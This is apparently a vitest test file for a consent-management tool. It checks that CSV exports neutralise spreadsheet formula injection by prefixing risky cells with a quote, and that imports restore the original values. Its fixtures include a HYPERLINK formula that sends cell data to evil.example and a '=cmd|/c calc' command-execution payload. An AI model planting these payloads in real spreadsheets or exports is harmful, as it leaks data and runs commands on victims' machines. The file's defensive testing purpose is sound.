import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLocalBackend } from '../../src/backend/local/local-backend.js';
import { BACKEND_NAMES, cli, engineOf, freshStore, overHttp, startServer, tmp, tmpDb } from '../support/helpers.js';

// CSV injection (OWASP): a cell that starts with = + - @, a tab or a carriage return is run as a formula by Excel,
// LibreOffice Calc and Google Sheets. Every CSV the tool writes puts a ' before such a cell and quotes it; the import
// takes it away again, so export and import give back the same values. Both engines, local and through serve.

/** Values a website visitor or another system may send, and values that only look alike. */
const TRICKY = [
  { user_id: '=HYPERLINK("http://evil.example/?x="&A1,"klick")', user_agent: '\t=1+1' },
  { user_id: '@SUM(1+1)', user_agent: '\r@cmd' },
  { user_id: '-5', source: '+web' },
  { user_id: "'=already quoted" },
  { user_id: "''@two quotes" },
  { user_id: "'plain quote" },
  { user_id: '=1+1;2' },
  { user_id: 'anna@example.com', user_agent: 'Mozilla/5.0' },
];
const FORMULA_START = /^[=+\-@\t\r]/;

const file = (name: string, content: string) => {
  const f = join(tmp(), name);
  writeFileSync(f, content);
  return f;
};
const cellsOf = (csv: string, delimiter: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;

type Consent = { user_id: string; granted: boolean; source: string | null; user_agent: string | null };
const compared = (rows: Consent[]) =>
  rows
    .map((c) => ({ user_id: c.user_id, granted: c.granted, source: c.source, user_agent: c.user_agent }))
    .sort((a, b) => (a.user_id < b.user_id ? -1 : 1));

describe.each(BACKEND_NAMES)('CSV exports and cells a spreadsheet would run (%s)', (name) => {
  let close = async () => {};
  let tenants = 0;
  /** A fresh place to import into: a new store locally, a new tenant on the one server remotely. */
  let fresh: () => Promise<(args: string[]) => ReturnType<typeof cli>>;
  beforeAll(async () => {
    if (!overHttp(name)) {
      fresh = async () => {
        const db = await freshStore(engineOf(name));
        return (args) => cli(['--db', db, ...args]);
      };
      return;
    }
    const local = await createLocalBackend(await freshStore(engineOf(name)));
    const srv = await startServer(local, { keys: false });
    close = async () => {
      await srv.close();
      await local.close();
    };
    fresh = async () => {
      const tenant = `cells-${++tenants}`;
      return (args) => cli(['--remote', srv.url, '--tenant', tenant, ...args]);
    };
  });
  afterAll(() => close());

  const listed = async (run: (a: string[]) => ReturnType<typeof cli>) =>
    compared(JSON.parse((await run(['consents', 'list', '--json', '--limit', '500'])).stdout).consents as Consent[]);
  const stats = async (run: (a: string[]) => ReturnType<typeof cli>) =>
    JSON.parse((await run(['consents', 'stats', '--json'])).stdout) as unknown;

  it("writes them with a ' in front, quoted, and the import gives back the same values and statistics", async () => {
    const source = await fresh();
    // NDJSON stores every value exactly as sent
    const ndjson = TRICKY.map((t, i) => JSON.stringify({ data_point_id: 'newsletter', granted: i % 3 !== 1, ...t }));
    const imported = await source(['consents', 'import', file('in.ndjson', ndjson.join('\n') + '\n')]);
    expect(imported.code, imported.stderr).toBe(0);
    const original = await listed(source);
    expect(original.map((c) => c.user_id).sort()).toEqual(TRICKY.map((t) => t.user_id).sort());

    const exported = await source(['consents', 'export', '--format', 'csv', '--delimiter', ';']);
    expect(exported.code, exported.stderr).toBe(0);
    const csv = exported.stdout;
    // no cell opens a formula, and each is spelled as OWASP's rule writes it
    const cells = cellsOf(csv, ';').flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    for (const spelled of [
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""klick"")"`,
      `"'@SUM(1+1)"`,
      `"'-5"`,
      `"'+web"`,
      `"''=already quoted"`,
      `"'''@two quotes"`,
      `"'=1+1;2"`,
      `"'\t=1+1"`,
      `"'\r@cmd"`,
      // a quote before anything else is written as it is, unquoted
      "\n'plain quote;",
      '\nanna@example.com;',
    ])
      expect(csv).toContain(spelled);

    const target = await fresh();
    const back = await target(['consents', 'import', file('out.csv', csv), '--delimiter', ';', '--json']);
    expect(back.code, back.stderr).toBe(0);
    expect(JSON.parse(back.stdout)).toMatchObject({ created: TRICKY.length, rejected: 0 });
    expect(await listed(target)).toEqual(original);
    expect(await stats(target)).toEqual(await stats(source));
  });

  it('writes them as they are with --raw-cells, which the import reads back with --raw-cells', async () => {
    const source = await fresh();
    const ndjson = TRICKY.map((t) => JSON.stringify({ data_point_id: 'newsletter', granted: true, ...t }));
    expect((await source(['consents', 'import', file('in.ndjson', ndjson.join('\n') + '\n')])).code).toBe(0);
    const raw = (await source(['consents', 'export', '--format', 'csv', '--raw-cells'])).stdout;
    const cells = cellsOf(raw, ',').flat();
    expect(cells).toContain('@SUM(1+1)');
    expect(cells).toContain("'=already quoted");
    expect(raw).toContain('\n@SUM(1+1),');
    const target = await fresh();
    const back = await target(['consents', 'import', file('raw.csv', raw), '--raw-cells']);
    expect(back.code, back.stderr).toBe(0);
    expect(await listed(target)).toEqual(await listed(source));
    // read without --raw-cells, the quote a value really began with is taken as the export's: the documented rule
    const other = await fresh();
    expect((await other(['consents', 'import', file('raw.csv', raw)])).code).toBe(0);
    expect((await listed(other)).map((c) => c.user_id)).toContain('=already quoted');
  });

  it("writes the refused rows of an import with the same ' (the header as read)", async () => {
    const run = await fresh();
    const input = file(
      'bad.csv',
      'user_id,data_point_id,granted\n=cmd|/c calc,newsletter,vielleicht\n"\'@x",newsletter,nein?\nok,newsletter,true\n',
    );
    const rejects = join(tmp(), 'rejects.csv');
    const r = await run(['consents', 'import', input, '--rejects', rejects]);
    expect(r.code).toBe(6);
    const written = readFileSync(rejects, 'utf8');
    expect(written.split('\n')[0]).toBe('line,reason,user_id,data_point_id,granted');
    const rows = cellsOf(written, ',').slice(1);
    expect(rows.map((row) => row[2])).toEqual(["'=cmd|/c calc", "'@x"]);
    expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
  });
});

describe('training matrix export', () => {
  it("puts a ' before a module title a spreadsheet would run, unless --raw-cells; the file imports again", async () => {
    const db = tmpDb();
    const run = (...args: string[]) => cli(['--db', db, ...args]);
    const title = '=HYPERLINK("http://evil.example/","Schulung")';
    const made = await run(
      'training',
      'modules',
      'create',
      '--code',
      'EVIL-1',
      '--title',
      title,
      '--area',
      'dsgvo',
      '--frequency',
      'annual',
      '--json',
    );
    expect(made.code, made.stderr).toBe(0);
    expect((await run('training', 'matrix', 'set', 'R5', 'EVIL-1', '--mandatory')).code).toBe(0);
    const csv = (await run('training', 'matrix', 'export')).stdout;
    expect(csv).toContain(`R5,EVIL-1,"'=HYPERLINK(""http://evil.example/"",""Schulung"")",true,`);
    expect(
      cellsOf(csv, ',')
        .flat()
        .filter((c) => FORMULA_START.test(c)),
    ).toEqual([]);
    const raw = (await run('training', 'matrix', 'export', '--raw-cells')).stdout;
    expect(raw).toContain(`R5,EVIL-1,"=HYPERLINK(""http://evil.example/"",""Schulung"")",true,`);
    const again = await run('training', 'matrix', 'import', file('matrix.csv', csv));
    expect(again.code, again.stderr).toBe(0);
  });
});
